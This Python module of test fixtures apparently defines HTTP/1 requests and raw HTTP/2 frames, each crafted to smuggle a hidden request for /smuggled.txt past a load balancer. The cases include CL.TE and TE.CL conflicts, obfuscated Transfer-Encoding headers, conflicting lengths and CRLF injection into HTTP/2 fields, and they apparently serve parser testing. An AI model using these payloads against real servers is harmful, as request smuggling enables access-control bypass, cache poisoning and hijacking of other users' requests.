"""Requests that two parsers may read in two ways, as bytes: HTTP/1, and HTTP/2 frames that become HTTP/1 behind us.

Each tries to bring a second request, for ``/smuggled.txt``, past a load balancer that has seen one. The kinds are those
of RFC 9112 sections 2.2, 5, 6 and 11.2, and RFC 9113 sections 8.2, 8.3 and 10.3.
"""

from __future__ import annotations

from collections.abc import Sequence

HIDDEN = b"GET /smuggled.txt HTTP/1.1\r\nHost: hidden\r\n\r\n"
_PLAIN = b"POST /victim.txt HTTP/1.1\r\nHost: site\r\n"


def _post(headers: bytes, body: bytes) -> bytes:
    return _PLAIN + headers + b"\r\n" + body


def _length(size: int) -> bytes:
    return b"Content-Length: %d\r\n" % size


_CHUNKED = b"Transfer-Encoding: chunked\r\n"
_LAST = b"0\r\n\r\n"
_ALL = _LAST + HIDDEN
_IN_A_CHUNK = b"%x\r\n%b\r\n0\r\n\r\n" % (len(HIDDEN), HIDDEN)

HTTP1: dict[str, bytes] = {
    "CL.TE": _post(_length(len(_ALL)) + _CHUNKED, _ALL),
    "TE.CL": _post(b"Content-Length: 4\r\n" + _CHUNKED, _IN_A_CHUNK),
    "TE.TE, second unknown": _post(_CHUNKED + b"Transfer-Encoding: cow\r\n" + _length(len(_ALL)), _ALL),
    "TE.TE, first unknown": _post(b"Transfer-Encoding: cow\r\n" + _CHUNKED + _length(len(_ALL)), _ALL),
    "TE in capitals behind a tab": _post(b"Transfer-Encoding:\tCHUNKED\r\n" + _length(len(_ALL)), _ALL),
    "TE with a space before its colon": _post(b"Transfer-Encoding : chunked\r\n" + _length(len(_ALL)), _ALL),
    "TE with a vertical tab": _post(b"Transfer-Encoding: \x0bchunked\r\n" + _length(len(_ALL)), _ALL),
    "TE with a NUL": _post(b"Transfer-Encoding: chunked\0\r\n" + _length(len(_ALL)), _ALL),
    "TE in quotes": _post(b'Transfer-Encoding: "chunked"\r\n' + _length(len(_ALL)), _ALL),
    "TE, x-chunked": _post(b"Transfer-Encoding: xchunked\r\n" + _length(len(_ALL)), _ALL),
    "TE identity, then length": _post(b"Transfer-Encoding: identity\r\n" + _length(len(_ALL)), _ALL),
    "TE: chunked, identity": _post(b"Transfer-Encoding: chunked, identity\r\n" + _length(len(_ALL)), _ALL),
    "TE: chunked, chunked": _post(b"Transfer-Encoding: chunked, chunked\r\n" + _length(len(_ALL)), _ALL),
    "TE in a folded line": _post(b"X: a\r\n Transfer-Encoding: chunked\r\n" + _length(len(_ALL)), _ALL),
    "TE's value in a folded line": _post(b"Transfer-Encoding:\r\n chunked\r\n" + _length(len(_ALL)), _ALL),
    "TE after a bare line feed": _post(b"X: a\nTransfer-Encoding: chunked\r\n" + _length(len(_ALL)), _ALL),
    "TE after a bare carriage return": _post(b"X: a\rTransfer-Encoding: chunked\r\n" + _length(len(_ALL)), _ALL),
    "TE with HTTP/1.0": (
        b"POST /victim.txt HTTP/1.0\r\nHost: site\r\nConnection: keep-alive\r\n" + _CHUNKED + _length(len(_ALL))
    ) + b"\r\n" + _ALL,
    "lengths that differ": _post(_length(0) + _length(len(HIDDEN)), HIDDEN),
    "lengths that differ, other order": _post(_length(len(HIDDEN)) + _length(0), HIDDEN),
    "lengths in one header": _post(b"Content-Length: 0, %d\r\n" % len(HIDDEN), HIDDEN),
    "length with a plus": _post(b"Content-Length: +%d\r\n" % len(HIDDEN), HIDDEN),
    "length with a minus": _post(b"Content-Length: -1\r\n", HIDDEN),
    "length in hexadecimal": _post(b"Content-Length: 0x%x\r\n" % len(HIDDEN), HIDDEN),
    "length with a space in it": _post(b"Content-Length: 0 %d\r\n" % len(HIDDEN), HIDDEN),
    "length behind a space": _post(b" Content-Length: %d\r\n" % len(HIDDEN), HIDDEN),
    "length with a space before its colon": _post(b"Content-Length : %d\r\n" % len(HIDDEN), HIDDEN),
    "length beyond 64 bits": _post(b"Content-Length: 18446744073709551617\r\n", b"x" + HIDDEN),
    "length after an underscore": _post(b"Content_Length: %d\r\n" % len(HIDDEN) + _length(0), b""),
    "no length": _post(b"", HIDDEN[:0]),
    "GET with a length": b"GET /victim.txt HTTP/1.1\r\nHost: site\r\n" + _length(len(HIDDEN)) + b"\r\n" + HIDDEN,
    "GET with chunks": b"GET /victim.txt HTTP/1.1\r\nHost: site\r\n" + _CHUNKED + b"\r\n" + _IN_A_CHUNK,
    "HEAD with a length": b"HEAD /victim.txt HTTP/1.1\r\nHost: site\r\n" + _length(len(HIDDEN)) + b"\r\n" + HIDDEN,
    "a chunk's size with a space": _post(_CHUNKED, b"%x \r\n%b\r\n0\r\n\r\n" % (len(HIDDEN), HIDDEN)),
    "a chunk's size with 0x": _post(_CHUNKED, b"0x%x\r\n%b\r\n0\r\n\r\n" % (len(HIDDEN), HIDDEN)),
    "a chunk's size beyond 64 bits": _post(_CHUNKED, b"10000000000000001\r\nx\r\n0\r\n\r\n"),
    "a chunk's size that is negative": _post(_CHUNKED, b"-1\r\n" + HIDDEN),
    "a chunk's extension with a line feed": _post(
        _CHUNKED, b"2;\nxx\r\n%x\r\n0\r\n\r\n%b\r\n0\r\n\r\n" % (len(HIDDEN) + 5, HIDDEN)
    ),
    "a chunk that ends with a line feed": _post(_CHUNKED, b"1\nx\n0\n\n"),
    "a chunk longer than it says": _post(_CHUNKED, b"1\r\nxx\r\n0\r\n\r\n"),
    "a trailer with a length": _post(_CHUNKED, b"0\r\n" + _length(len(HIDDEN)) + b"\r\n"),
    "lines that end with a line feed": (
        b"POST /victim.txt HTTP/1.1\nHost: site\nContent-Length: %d\n\n" % len(HIDDEN) + HIDDEN
    ),
    "a path with a line in it": b"GET /victim.txt\rHTTP/1.1\r\nHost: site\r\n\r\n",
    "a path with a space in it": b"GET /victim.txt /smuggled.txt HTTP/1.1\r\nHost: site\r\n\r\n",
    "a path with a NUL in it": b"GET /victim.txt\0 HTTP/1.1\r\nHost: site\r\n\r\n",
    "HTTP/0.9": b"GET /smuggled.txt\r\n",
    "a version that is none": b"GET /victim.txt HTTP/1.1x\r\nHost: site\r\n\r\n",
    "absolute form, another host": b"GET http://hidden/victim.txt HTTP/1.1\r\nHost: site\r\n\r\n",
    "two hosts": b"GET /victim.txt HTTP/1.1\r\nHost: site\r\nHost: hidden\r\n\r\n",
    "no host": b"GET /victim.txt HTTP/1.1\r\n\r\n",
    "a header without a colon": b"GET /victim.txt HTTP/1.1\r\nHost: site\r\nX\r\n\r\n",
    "a header's name in brackets": b"GET /victim.txt HTTP/1.1\r\nHost: site\r\n(X): y\r\n\r\n",
    "an upgrade that nobody asked for": _post(
        b"Connection: upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 9\r\n" + _length(len(HIDDEN)), HIDDEN
    ),
    "an upgrade to HTTP/2": (
        b"GET /victim.txt HTTP/1.1\r\nHost: site\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
        b"HTTP2-Settings: AAMAAABkAAQAAP__\r\n" + _length(len(HIDDEN)) + b"\r\n" + HIDDEN
    ),
    "a length named in Connection": _post(b"Connection: Content-Length\r\n" + _length(len(HIDDEN)), HIDDEN),
    "an expectation": _post(b"Expect: 100-continue\r\n" + _length(len(HIDDEN)), HIDDEN),
}  # fmt: skip
"""By what is odd. Whatever follows the first request is its body, by at least one reading."""

BEHIND_LINE_FEEDS = _post(_CHUNKED, b"0\r\nX: y\n\n" + HIDDEN)
"""Two requests, to whoever lets a line feed end a trailer's line."""

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _SETTINGS = 0, 1, 4
_END_STREAM, _END_HEADERS = 1, 4
Fields = Sequence[tuple[bytes, bytes]]


def http2(fields: Fields, body: bytes = b"", *, trailers: Fields = ()) -> bytes:
    """A connection that begins in HTTP/2 and has one request; every field as it is given, valid or not."""
    ended = 0 if body or trailers else _END_STREAM
    frames = _frame(_SETTINGS, 0, 0, b"") + _frame(_HEADERS, _END_HEADERS | ended, 1, _block(fields))
    if body:
        frames += _frame(_DATA, 0 if trailers else _END_STREAM, 1, body)
    if trailers:
        frames += _frame(_HEADERS, _END_HEADERS | _END_STREAM, 1, _block(trailers))
    return _PREFACE + frames


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def _block(fields: Fields) -> bytes:
    """HPACK: each field as a literal that nobody indexes, without Huffman (RFC 7541, 6.2.2)."""
    return b"".join(b"\0" + _text(name) + _text(value) for name, value in fields)


def _text(value: bytes) -> bytes:
    size = len(value)
    if size < 127:
        return bytes((size,)) + value
    head, rest = b"\x7f", size - 127
    while rest >= 128:
        head += bytes((rest % 128 + 128,))
        rest //= 128
    return head + bytes((rest,)) + value


def _start(
    method: bytes = b"POST", path: bytes = b"/victim.txt", authority: bytes = b"site"
) -> list[tuple[bytes, bytes]]:
    return [(b":method", method), (b":scheme", b"http"), (b":path", path), (b":authority", authority)]


_LINES = b"x\r\n\r\n" + HIDDEN

HTTP2: dict[str, bytes] = {
    "a length shorter than the body": http2([*_start(), (b"content-length", b"0")], HIDDEN),
    "a length longer than the body": http2([*_start(), (b"content-length", b"500")], HIDDEN),
    "lengths that differ": http2([*_start(), (b"content-length", b"0"), (b"content-length", b"45")], HIDDEN),
    "transfer-encoding": http2([*_start(), (b"transfer-encoding", b"chunked")], _ALL),
    "transfer-encoding and a length": http2(
        [*_start(), (b"transfer-encoding", b"chunked"), (b"content-length", b"%d" % len(_ALL))], _ALL
    ),
    "lines in a value": http2([*_start(), (b"x", _LINES)]),
    "a line feed in a value": http2([*_start(), (b"x", b"y\ntransfer-encoding: chunked")], _ALL),
    "a NUL in a value": http2([*_start(), (b"x", b"y\0z")]),
    "lines in a name": http2([*_start(), (b"x: y\r\n\r\nGET /smuggled.txt HTTP/1.1\r\nhost", b"hidden")]),
    "a colon in a name": http2([*_start(), (b"transfer-encoding: chunked\r\nx", b"y")], _ALL),
    "a name in capitals": http2([*_start(), (b"Transfer-Encoding", b"chunked")], _ALL),
    "a name with a space": http2([*_start(), (b"transfer-encoding ", b"chunked")], _ALL),
    "an empty name": http2([*_start(), (b"", b"chunked")]),
    "lines in the path": http2(_start(b"GET", b"/victim.txt HTTP/1.1\r\nhost: site\r\n\r\nGET /smuggled.txt")),
    "a space in the path": http2(_start(b"GET", b"/victim.txt HTTP/1.1")),
    "a path without a slash": http2(_start(b"GET", b"smuggled.txt")),
    "no path": http2([field for field in _start(b"GET") if field[0] != b":path"]),
    "lines in the method": http2(_start(b"GET /smuggled.txt HTTP/1.1\r\nhost: hidden\r\n\r\nGET")),
    "a space in the method": http2(_start(b"GET /smuggled.txt HTTP/1.1 GET")),
    "lines in the authority": http2(_start(b"GET", authority=_LINES)),
    "lines in the scheme": http2([(b":method", b"GET"), (b":scheme", _LINES), *_start()[2:]]),
    "another host beside the authority": http2([*_start(b"GET"), (b"host", b"hidden")]),
    "two paths": http2([*_start(b"GET"), (b":path", b"/smuggled.txt")]),
    "a pseudo-header after a header": http2([(b"x", b"y"), *_start(b"GET")]),
    "an unknown pseudo-header": http2([*_start(b"GET"), (b":hidden", b"x")]),
    "connection headers": http2([*_start(), (b"connection", b"transfer-encoding"), (b"te", b"chunked")], _ALL),
    "an upgrade": http2([*_start(b"GET"), (b"upgrade", b"websocket"), (b"connection", b"upgrade")], HIDDEN),
    "trailers with a length": http2(_start(), b"x", trailers=[(b"content-length", b"0")]),
    "trailers with lines": http2(_start(), b"x", trailers=[(b"x", _LINES)]),
    "trailers with a path": http2(_start(), b"x", trailers=[(b":path", b"/smuggled.txt")]),
    "a body that looks like a request": http2(_start(), HIDDEN),
    "CONNECT": http2([(b":method", b"CONNECT"), (b":authority", b"hidden:80")], HIDDEN),
}
"""By what is odd."""
